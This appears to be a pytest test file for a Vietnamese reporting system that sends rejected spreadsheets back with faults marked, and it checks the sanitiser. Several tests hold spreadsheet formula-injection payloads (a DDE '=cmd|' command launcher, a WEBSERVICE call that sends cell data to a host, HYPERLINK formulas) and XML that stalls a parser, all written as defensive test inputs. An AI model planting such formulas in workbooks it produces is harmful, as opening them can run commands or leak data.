"""The workbook that goes back: marked, complete, harmless, and fit to be sent again."""

import io
import zipfile
from collections.abc import Mapping
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.comments import Comment
from openpyxl.styles import PatternFill
from tests import builders

from bloc_warehouse.forms.filled import FilledForm
from bloc_warehouse.forms.registry import load_registry
from bloc_warehouse.forms.template import write_workbook
from bloc_warehouse.intake.answer.fault_marks import MOST_NOTES, RESULT_SHEET
from bloc_warehouse.intake.answer.own_workbook import UnusableWorkbookError, open_own
from bloc_warehouse.intake.answer.returned_workbook import (
    can_be_returned,
    returned_workbook,
)
from bloc_warehouse.intake.answer.safe_formula import is_safe_formula
from bloc_warehouse.intake.faults.catalogue import text
from bloc_warehouse.intake.parse.parsed import ParseContext, ParsedFile
from bloc_warehouse.intake.parse_file import parse_file

LIMIT = 2 * 1024 * 1024
CONTEXT = ParseContext(load_registry(), builders.reference())
RED, ORANGE = "FFFF9C9C", "FFFFC47A"


def parse(content: bytes, name: str = "a.xlsx") -> ParsedFile:
    return parse_file(name, content, "LAN-001", CONTEXT)


def template(**changes: object) -> bytes:
    """The template as a clerk fills it, with its locks, lists and live checks."""
    filled = FilledForm(
        form=load_registry().form("membership"),
        header=builders.header(),
        rows={"membership": [builders.membership_row(**changes)]},  # type: ignore[dict-item]
    )
    buffer = io.BytesIO()
    write_workbook(buffer, [filled], template=True)
    return buffer.getvalue()


def fault(cell: str | None, **changes: object) -> dict[str, Any]:
    made: dict[str, Any] = {
        "id": None, "code": "V301", "severity": "error", "sheet": "BDV", "cell": cell,
        "rule": None, "found": "ba", "expected": "", "message_vi": "Không phải là số.",
        "message_en": "Not a number.", "explanations": [],
    }  # fmt: skip
    return made | changes


def receipt(
    faults: list[dict[str, Any]], name: str = "a.xlsx", **changes: object
) -> dict[str, Any]:
    made: dict[str, Any] = {
        "file": "F-1", "file_name": name, "sender": "LAN-001", "byte_size": 9999,
        "received_on": "05/07/2024 08:00", "state": "rejected",
        "advice": [text("advice.rejected")], "cells_lines": ["Ô đã đọc: 1 = mới 1"],
        "submissions": [], "faults": faults,
    }  # fmt: skip
    return made | changes


def returned(content: bytes, answer: Mapping[str, Any]) -> Workbook:
    made = returned_workbook(answer, content, max_bytes=LIMIT)
    return load_workbook(io.BytesIO(made))


def texts_of(book: Workbook) -> list[str]:
    return [
        str(cell.value)
        for row in book[RESULT_SHEET].iter_rows()
        for cell in row
        if cell.value is not None
    ]


def cell_at(book: Workbook, address: str, sheet: str = "BDV") -> Any:  # noqa: ANN401  a cell, whose type has no value to set
    return book[sheet][address]


def test_each_faulty_cell_is_coloured_and_commented() -> None:
    book = returned(
        template(),
        receipt([fault("C18"), fault("D18", severity="warning", id="W-7", rule="M9")]),
    )
    assert cell_at(book, "C18").fill.fgColor.rgb == RED
    assert cell_at(book, "D18").fill.fgColor.rgb == ORANGE
    comment = cell_at(book, "C18").comment.text
    assert comment.index("Không phải là số.") < comment.index("Not a number.")
    assert "W-7" in cell_at(book, "D18").comment.text
    assert cell_at(book, "E18").comment is None


def test_the_first_sheet_lists_every_fault_with_a_link() -> None:
    book = returned(template(), receipt([fault("C18"), fault("C18"), fault(None)]))
    result = book.worksheets[0]
    assert result.title == RESULT_SHEET
    assert book.active is result
    assert not book["BDV"].sheet_view.tabSelected
    assert str(result["A1"].value).endswith("BỊ TRẢ LẠI")
    links = [
        cell.hyperlink.location
        for row in result.iter_rows()
        for cell in row
        if cell.hyperlink
    ]
    assert links == ["'BDV'!C18", "'BDV'!C18", "'BDV'!A1"]
    assert texts_of(book).count("Không phải là số.") == 3


def test_the_layout_of_the_template_is_kept() -> None:
    before = load_workbook(io.BytesIO(template()))["BDV"]
    after = returned(template(), receipt([fault("C18")]))["BDV"]
    assert {str(merged) for merged in after.merged_cells.ranges} == {
        str(merged) for merged in before.merged_cells.ranges
    }
    for name, column in before.column_dimensions.items():
        assert after.column_dimensions[name].width == column.width
    assert after.protection.sheet == before.protection.sheet
    assert len(after.conditional_formatting) == len(before.conditional_formatting) > 0
    assert len(after.data_validations.dataValidation) == len(
        before.data_validations.dataValidation
    )
    assert len(after.data_validations.dataValidation) > 0
    for row in before.iter_rows():
        for cell in row:
            if cell.coordinate != "C18":
                other = after[cell.coordinate]
                assert other.value == cell.value
                assert other.number_format == cell.number_format
                assert repr(other.fill) == repr(cell.fill)
                assert repr(other.font) == repr(cell.font)


def test_a_fault_inside_a_merged_range_marks_its_first_cell() -> None:
    book = load_workbook(io.BytesIO(template()))
    merged = next(
        merged
        for merged in book["BDV"].merged_cells.ranges
        if merged.size["columns"] > 1
    )
    inside = book["BDV"].cell(merged.min_row, merged.max_col).coordinate
    marked = returned(template(), receipt([fault(inside)]))
    assert marked["BDV"].cell(merged.min_row, merged.min_col).fill.fgColor.rgb == RED


def test_the_corrected_answer_can_be_sent_again() -> None:
    wrong = template(closing_total=63)
    sent_back = returned(wrong, receipt([fault("T18", rule="M1")]))
    assert parse(saved(sent_back)).forms[0].sheet == "BDV"
    cell_at(sent_back, "T18").value = 62
    parsed = parse(saved(sent_back))
    assert parsed.faults.faults == []
    right = parse(template())
    assert parsed.forms[0].content_sha256 == right.forms[0].content_sha256


def test_a_second_answer_takes_the_marks_of_the_first_away() -> None:
    own = load_workbook(io.BytesIO(template()))
    own["BDV"]["C18"].comment = Comment("hỏi lại chị Lan", "kế toán")
    own["BDV"]["C18"].fill = PatternFill("solid", fgColor="FF00FF00")
    first = returned(saved(own), receipt([fault("C18"), fault("D18")]))
    assert "hỏi lại chị Lan" in cell_at(first, "C18").comment.text
    second = returned(saved(first), receipt([fault("E18")]))
    assert cell_at(second, "C18").fill.fgColor.rgb == "FF00FF00"
    assert cell_at(second, "C18").comment.text == "hỏi lại chị Lan"
    assert cell_at(second, "D18").comment is None
    assert cell_at(second, "E18").fill.fgColor.rgb == RED
    assert second.sheetnames.count(RESULT_SHEET) == 1


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t=", "\r="])
def test_what_a_sender_wrote_is_never_a_formula_in_the_list(sign: str) -> None:
    evil = f'{sign}HYPERLINK("http://x","y")'
    book = returned(template(), receipt([fault("C18", found=evil, message_vi=evil)]))
    for row in book[RESULT_SHEET].iter_rows():
        for cell in row:
            assert cell.data_type != "f"


def test_formulas_that_act_go_back_as_values() -> None:
    book = load_workbook(io.BytesIO(template()))
    sheet = book["BDV"]
    sheet["C18"] = "=cmd|'/c calc'!A0"
    sheet["D18"] = '=WEBSERVICE("http://x/"&A18)'
    sheet["E18"] = "=SUM(A18:B18)"
    sheet["F18"] = "='[other.xlsx]Sheet1'!A1"
    sheet["F19"].hyperlink = "http://x/"
    made = returned(saved(book), receipt([fault("C18")]))
    assert [cell_at(made, at).data_type for at in ("C18", "D18", "F18")] == ["n"] * 3
    assert cell_at(made, "E18").value == "=SUM(A18:B18)"
    assert cell_at(made, "F19").hyperlink is None
    assert text("workbook.values").vi in texts_of(made)


@pytest.mark.parametrize(
    ("formula", "is_safe"),
    [
        ("=A1+B2*2", True),
        ("=IF(SUM(A1:A9)=B1,0,1)", True),
        ('=IF(A1="|[x] WEBSERVICE(","",A1)', True),
        ("='Biểu 1'!A1", True),
        ("=cmd|'/c calc'!A0", False),
        ("=HYPERLINK(A1)", False),
        ("=_xlfn.WEBSERVICE(A1)", False),
        ("=[1]Sheet1!A1", False),
        ("='file:///x.ods'#$A.B1", False),
        ("=" + "1+" * 5000 + "1", False),
    ],
)
def test_only_formulas_that_compute_are_safe(formula: str, *, is_safe: bool) -> None:
    assert is_safe_formula(formula) is is_safe


def test_macros_are_left_out_and_said_to_be() -> None:
    book = returned(template(), receipt([fault("C18")], name="a.xlsm"))
    assert text("workbook.no_macros").vi in texts_of(book)


def test_ods_gets_a_copy_of_its_values_in_the_same_cells() -> None:
    content = ods([["Mã biểu", "=1+1"], [None, 4.5]])
    book = returned(content, receipt([fault("B1", sheet="Trang: một")], name="a.ods"))
    sheet = book.worksheets[1]
    assert (sheet["A1"].value, sheet["B1"].value) == ("Mã biểu", "=1+1")
    assert sheet["B1"].data_type == "s"
    assert sheet["B2"].value == 4.5
    assert sheet["B1"].fill.fgColor.rgb == RED
    assert text("workbook.copy", ending=".ods").vi in texts_of(book)
    assert text("advice.rejected.copy").vi in texts_of(book)


def test_a_workbook_that_only_the_reader_opens_is_copied() -> None:
    with zipfile.ZipFile(io.BytesIO(template())) as archive:
        styles = archive.read("xl/styles.xml").replace(b'"solid"', b'"unheard-of"')
    broken = with_part(template(), "xl/styles.xml", styles)
    with pytest.raises(UnusableWorkbookError):
        open_own(broken, max_unpacked_bytes=10**8)
    book = returned(broken, receipt([fault("C18")]))
    assert text("workbook.copy", ending=".xlsx").vi in texts_of(book)
    assert cell_at(book, "A18").value == 60


@pytest.mark.parametrize(
    "part",
    [
        b'<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>',
        b"<!DOCTYPE x []>",
    ],
)
def test_what_would_make_opening_endless_is_not_opened(part: bytes) -> None:
    name = "xl/worksheets/sheet1.xml"
    with zipfile.ZipFile(io.BytesIO(template())) as archive:
        xml = archive.read(name).replace(b"</worksheet>", part + b"</worksheet>")
    with pytest.raises(UnusableWorkbookError):
        open_own(with_part(template(), name, xml), max_unpacked_bytes=10**8)


def test_one_cell_far_out_costs_nothing() -> None:
    far = builders.with_cells(builders.workbook(), {"XFD1048576": 1})
    assert returned(far, receipt([fault("C18")])).sheetnames == [RESULT_SHEET, "BDV"]


def test_more_cells_than_can_be_marked_in_time_get_a_page() -> None:
    book = Workbook(write_only=True)
    sheet = book.create_sheet("BDV")
    for _ in range(1300):
        sheet.append([1] * 50)
    with pytest.raises(UnusableWorkbookError):
        returned_workbook(receipt([fault("A1")]), saved(book), max_bytes=LIMIT)


def test_large_parts_are_not_unpacked() -> None:
    with pytest.raises(UnusableWorkbookError):
        open_own(template(), max_unpacked_bytes=1000)


def test_notes_are_bounded_and_the_list_is_complete() -> None:
    faults = [fault(f"B{row}") for row in range(1, MOST_NOTES + 51)]
    book = returned(template(), receipt(faults))
    notes = [cell for row in book["BDV"].iter_rows() for cell in row if cell.comment]
    assert len(notes) <= MOST_NOTES
    assert texts_of(book).count("Không phải là số.") == len(faults)
    assert text("workbook.notes", number="1.000").vi in texts_of(book)


@pytest.mark.parametrize(
    ("answer", "expected"),
    [
        (receipt([fault("C18")]), True),
        (receipt([fault("C18")], name="a.ODS"), True),
        (receipt([]), False),
        (receipt([fault("C18")], name="a.csv"), False),
        (receipt([fault("C18"), fault("D9", code="P501")]), False),
        (receipt([fault(None, code="F101")]), False),
        (receipt([fault("C18")], byte_size=LIMIT + 1), False),
    ],
)
def test_who_gets_a_workbook(answer: Mapping[str, Any], *, expected: bool) -> None:
    assert can_be_returned(answer, LIMIT) is expected


def saved(book: Workbook) -> bytes:
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def with_part(content: bytes, name: str, part: bytes) -> bytes:
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(content)) as old,
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for item in old.infolist():
            new.writestr(item, part if item.filename == name else old.read(item))
    return buffer.getvalue()


def ods(rows: list[list[object]]) -> bytes:
    """The least that an ods file is."""
    cells = "".join(
        f"<table:table-row>{''.join(map(_ods_cell, row))}</table:table-row>"
        for row in rows
    )
    xml = (
        '<?xml version="1.0"?><office:document-content'
        ' xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
        ' xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"'
        ' xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body>'
        f'<office:spreadsheet><table:table table:name="Trang: một">{cells}'
        "</table:table></office:spreadsheet></office:body></office:document-content>"
    )
    mime = "application/vnd.oasis.opendocument.spreadsheet"
    manifest = (
        '<?xml version="1.0"?><manifest:manifest'
        ' xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>'
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("mimetype", mime)
        archive.writestr("content.xml", xml)
        archive.writestr("META-INF/manifest.xml", manifest)
    return buffer.getvalue()


def _ods_cell(value: object) -> str:
    if value is None:
        return "<table:table-cell/>"
    if isinstance(value, float):
        return (
            f'<table:table-cell office:value-type="float" office:value="{value}">'
            f"<text:p>{value}</text:p></table:table-cell>"
        )
    return (
        '<table:table-cell office:value-type="string">'
        f"<text:p>{value}</text:p></table:table-cell>"
    )


def test_the_list_holds_no_figures_that_a_reader_could_take_for_some() -> None:
    answer = receipt(
        [fault("C18", severity="warning")],
        state="accepted",
        advice=[text("advice.accepted.warnings")],
        submissions=[
            {
                "sheet": "BDV", "unit_code": "LAN-001", "period_code": "2024-H1",
                "totals": {"Tổng số": 4851},
            }
        ],
    )  # fmt: skip
    book = returned(template(), answer)
    cells = [cell for row in book[RESULT_SHEET].iter_rows() for cell in row]
    assert all(cell.value is None or isinstance(cell.value, str) for cell in cells)
    assert "4.851" in texts_of(book)


@pytest.mark.parametrize("length", [40, 300, 900, 4_000])
def test_what_is_wrong_and_its_cure_are_seen_whole(length: int) -> None:
    cure = ("Hãy rà lại cột Kết nạp của kỳ này rồi gửi lại cả biểu. " * 80)[:length]
    made = returned(
        template(), receipt([fault("C18", message_vi=cure, message_en=cure[::-1])])
    )
    result = made[RESULT_SHEET]
    cells = {cell.value: cell for row in result.iter_rows() for cell in row}
    said, english = cells[cure.strip()], cells[cure[::-1].strip()]
    for cell in (said, english):
        assert cell.alignment.wrap_text
        width = result.column_dimensions[cell.column_letter].width
        height = result.row_dimensions[cell.row].height
        # Arial of 10 points has 1.2 letters to a unit, and lines of 12.75 points
        assert height >= min(409, length / (width * 1.2) * 12.75)
    widths = [
        result.column_dimensions[chr(64 + column)].width
        for column in range(1, said.column + 1)
    ]
    assert sum(widths) < 120, "a screen of 1366 points shows the cure without scrolling"
    assert english.column > said.column + 1
    assert english.alignment.indent
